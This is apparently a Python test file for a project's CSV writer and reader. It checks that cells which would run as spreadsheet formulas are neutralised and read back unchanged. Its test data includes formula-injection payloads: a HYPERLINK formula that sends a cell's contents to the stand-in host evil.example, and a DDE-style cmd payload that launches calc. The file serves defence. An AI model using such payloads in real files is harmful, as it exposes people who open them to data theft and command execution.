"""CSV files as the project writes and reads them: no cell that a spreadsheet would run as a
formula, and every text read back as it was given."""

import csv

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policybrief.core.tables import FORMULA_STARTS, neutralised, read_rows, restored, write_rows
from policybrief.validate.frames import read_table

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cells_as_written(path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def opens_as_formula(cell: str) -> bool:
    """What a spreadsheet would run: a cell that begins with a formula character and is no number."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell[:1] in set(FORMULA_STARTS)


@pytest.mark.parametrize(("text", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"),
    ("- a bullet from a document", "'- a bullet from a document"),
    # written by someone with the apostrophe already: one more, so that it reads back as given
    ("'=1+1", "''=1+1"),
    ("''-x", "'''-x"),
    # text that starts no formula, and numbers, are written as they are
    ("'quoted'", "'quoted'"),
    ("it's", "it's"),
    ("|pipe", "|pipe"),
    ("%", "%"),
    (" =1", " =1"),
    ("", ""),
    ("-3.5", "-3.5"),
    ("+2", "+2"),
    ("-0", "-0"),
    ("42", "42"),
])
def test_a_cell_is_written_without_formula_and_read_back_as_given(text, written):
    assert neutralised(text) == written
    assert restored(written) == text


def test_tables_keep_their_texts_and_numbers_and_hold_no_formula(tmp_path):
    rows = [{"source": HYPERLINK, "label": "-3.5", "note": "'=already", "value": -3.5, "count": 2},
            {"source": "Survey", "label": "+2", "note": "- a bullet", "value": 12.25, "count": -7}]
    path = tmp_path / "table.csv"
    write_rows(path, rows, ["source", "label", "note", "value", "count"])
    written = cells_as_written(path)
    assert written[1] == ["'" + HYPERLINK, "-3.5", "''=already", "-3.5", "2"]
    assert written[2] == ["Survey", "+2", "'- a bullet", "12.25", "-7"]
    expected = [{key: str(value) for key, value in row.items()} for row in rows]
    assert read_rows(path) == expected
    # the validation reads the same texts
    assert read_table(path).to_dict("records") == expected


def test_a_column_name_is_neutralised_too(tmp_path):
    path = tmp_path / "figure.csv"
    write_rows(path, [{"=share": "1"}], ["=share"])
    assert cells_as_written(path)[0] == ["'=share"]
    assert list(read_rows(path)[0]) == ["=share"] and list(read_table(path).columns) == ["=share"]


def test_an_empty_table_keeps_its_columns(tmp_path):
    path = tmp_path / "empty.csv"
    write_rows(path, [], ["a", "-b"])
    assert read_rows(path) == [] and list(read_table(path).columns) == ["a", "-b"]


# Any text, and text made to look like formulas, numbers and marked cells.
texts = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")),
    st.builds(lambda prefix, start, rest: prefix + start + rest, st.text("'", max_size=3),
              st.sampled_from(list(FORMULA_STARTS) + ["'", "|", "%", "1", " "]), st.text(max_size=8)),
    st.floats(allow_nan=False, allow_infinity=False).map(str),
    st.integers().map(lambda n: f"{n:+d}"),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=4))
def test_any_text_reads_back_as_written_and_no_cell_opens_as_a_formula(tmp_path_factory, pairs):
    path = tmp_path_factory.mktemp("round") / "table.csv"
    rows = [{"a": a, "b": b} for a, b in pairs]
    write_rows(path, rows, ["a", "b"])
    assert read_rows(path) == rows
    assert read_table(path).to_dict("records") == rows
    assert not [cell for row in cells_as_written(path) for cell in row if opens_as_formula(cell)]


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False, min_value=-1e12, max_value=1e12)))
def test_numbers_are_written_as_numbers(number):
    from policybrief.core.tables import format_value

    assert neutralised(format_value(number)) == format_value(number)
